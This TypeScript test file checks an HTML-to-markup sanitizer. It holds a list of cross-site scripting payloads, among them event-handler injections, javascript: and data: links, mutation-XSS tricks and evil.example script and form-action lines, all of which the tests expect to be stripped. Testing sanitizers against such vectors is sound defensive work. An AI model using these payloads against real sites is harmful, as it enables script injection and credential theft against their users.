import * as fc from 'fast-check'
import { describe, expect, it, test } from 'vitest'
import { parseMarkup } from '#core/content/markup.ts'
import { isSafeLink } from '#core/content/safe-link.ts'
import { sanitizeMarkup } from '#server/platform/html/sanitize-markup.ts'
import { PATIENCE_MS } from '#test/support/wait-patiently.ts'

/** Anything that a browser takes for a tag, a comment or a declaration. */
const TAG = /<[a-z/!?]/i

describe('text without HTML is unchanged', () => {
  it.each([
    '',
    'Plain words.\n\n  With their own lines.  ',
    '## Title\n\n- one\n- **two** and [three](/page/rules)',
    'If 1 < 2 and 3 > 2, then a <3 b; AT&T &amp; co',
    '5 <- 6 <= 7 <',
    'مرحبا <٣',
  ])('%j', (text) => expect(sanitizeMarkup(text)).toBe(text))
})

test.each([
  ['<p>Paid in <b>euros</b>.</p>', 'Paid in **euros**.'],
  ['<p>One</p><p>Two<br>Three</p>', 'One\n\nTwo\n\nThree'],
  ['<h1>Title</h1>\n<p>Words &amp; more\n   words</p>', '## Title\n\nWords & more words'],
  ['<ul><li>one</li><li><p>two</p></li></ul>after', '- one\n- two\n\nafter'],
  ['<ol><li>one<ul><li>inner<br>line</li></ul></li></ol>', '- one\n- inner line'],
  ['See <a href="https://example.com/a_(b)">the rules</a>.', 'See [the rules](https://example.com/a_%28b%29).'],
  ['<p>See <a href="/page/rules"> <strong>our</strong> rules </a></p>', 'See [our rules](/page/rules)'],
  ['<b>bold <p>across</p> lines</b>', '**bold**\n\n**across**\n\n**lines**'],
  ['<a href="/x">one<br>two</a>', '[one](/x)\n\n[two](/x)'],
  ['<table><tr><td>IBAN</td><td>DE00</td></tr><tr><td>BIC</td></tr></table>', 'IBAN DE00\n\nBIC'],
  ['## Title\n\n- a\n- b <b>c</b>', '## Title\n\n- a\n- b **c**'],
  ['<b>1*2</b> <b></b> <b> </b>', '1*2'],
  ['<p>a &lt;b&gt; c</p>', 'a < b> c'],
  ['<a href="/x">[y]</a>', '[y]'],
  ['words <TRC20 only', 'words'],
  ['<!doctype html><html><head><title>T</title></head><body>words</body></html>', 'words'],
])('AT33: %j is %j', (html, markup) => expect(sanitizeMarkup(html)).toBe(markup))

const VECTORS = [
  '<script>alert(1)</script>words',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>words',
  '<scr<script>ipt>alert(1)</scr</script>ipt>words',
  '<script><!--<script></script>alert(1)--></script>words',
  '<img src=x onerror=alert(1)>words',
  '<img src="x" onerror="alert(1)"/>words',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">words',
  '<svg onload=alert(1)>words</svg>',
  '<svg/onload=alert(1)//>words',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>words',
  '<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text>words</text></a>',
  '<svg><set attributeName=href to=javascript:alert(1)>words',
  '<svg><script>alert(1)</script></svg>words',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">words',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">words',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">words',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>words',
  '<textarea><img src=x onerror=alert(1)></textarea>words',
  '<title><img src=x onerror=alert(1)></title>words',
  '<xmp><img src=x onerror=alert(1)></xmp>words',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>words',
  '<iframe src=javascript:alert(1)></iframe>words',
  '<object data="javascript:alert(1)">words</object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">words',
  '<base href="https://evil.example/">words',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">words',
  '<link rel=stylesheet href="https://evil.example/x.css">words',
  '<style>@import url(https://evil.example/x.css); body { background: url(javascript:alert(1)) }</style>words',
  '<p style="background:url(https://evil.example/x)">words</p>',
  '<form action="https://evil.example/"><input name=password><button formaction=javascript:alert(1)>words</button></form>',
  '<details open ontoggle=alert(1)>words</details>',
  '<body onload=alert(1)>words',
  '<a href="javascript:alert(1)">words</a>',
  '<a href=" &#14; javascript:alert(1)">words</a>',
  '<a href="jav&#x09;ascript:alert(1)">words</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">words</a>',
  '<a href="data:text/html,<script>alert(1)</script>">words</a>',
  '<a href="vbscript:msgbox(1)">words</a>',
  '<a href="//evil.example">words</a>',
  '<a href="/\\evil.example">words</a>',
  '<a href="https://example.com/&quot;onmouseover=alert(1)">words</a>',
  '<a href="https://example.com" onclick="alert(1)" style="x:expression(alert(1))">words</a>',
  '<a xlink:href="javascript:alert(1)">words</a>',
  '[words](javascript:alert(1))<b></b>',
  '<<script>script>alert(1)<</script>/script>words',
  '&lt;script&gt;alert(1)&lt;/script&gt;<i>words</i>',
  '<p>&lt;img src=x onerror=alert(1)&gt;words</p>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->words',
  '<?xml version="1.0"?><x onclick=alert(1)>words</x>',
  '<![CDATA[<script>alert(1)</script>]]>words',
  '<x\0 onclick=alert(1)>words',
  '<template><script>alert(1)</script></template>words',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">words',
  '</p onclick=alert(1)>words',
]

describe('AT33: attack code is removed', () => {
  it.each(VECTORS)('%j', (html) => {
    const text = sanitizeMarkup(html)
    expect(text).toContain('words')
    expect(harmIn(text)).toEqual([])
  })

  it('from any combination of attack code, tags and text', () => {
    const piece = fc.oneof(
      fc.constantFrom(...VECTORS, '<b>', '</b>', '<li>', '<p>', '<a href="/x">', '*', '[', '](', '&lt;'),
      fc.string(),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (parts) => {
        expect(harmIn(sanitizeMarkup(parts.join('')))).toEqual([])
      }),
    )
  })
})

/** Describes the problems of a cleaned text. */
function harmIn(text: string): string[] {
  const inlines = parseMarkup(text).flatMap((block) => (block.kind === 'list' ? block.items.flat() : block.inlines))
  const links = inlines.flatMap((inline) => (inline.kind === 'link' && !isSafeLink(inline.to) ? [inline.to] : []))
  if (TAG.test(text)) links.push('has a tag')
  if (sanitizeMarkup(text) !== text) links.push('another text when it is cleaned again')
  return links
}

describe('a megabyte of text is cleaned in one pass', () => {
  it.each([
    '<b>',
    '<div>',
    '<ul><li>',
    '</p>',
    '<a href="',
    '<a href=/x>y',
    '<b>x</b> ',
    '<!--',
    '&lt',
    '<',
    '<svg><style>',
    '<p>**[',
    'x &lt; ',
  ])(
    'of %j',
    (piece) => {
      // Reading the whole text again for each piece would take minutes.
      const text = sanitizeMarkup(piece.repeat(Math.ceil(1_048_576 / piece.length)))
      expect(TAG.test(text)).toBe(false)
    },
    PATIENCE_MS,
  )
})
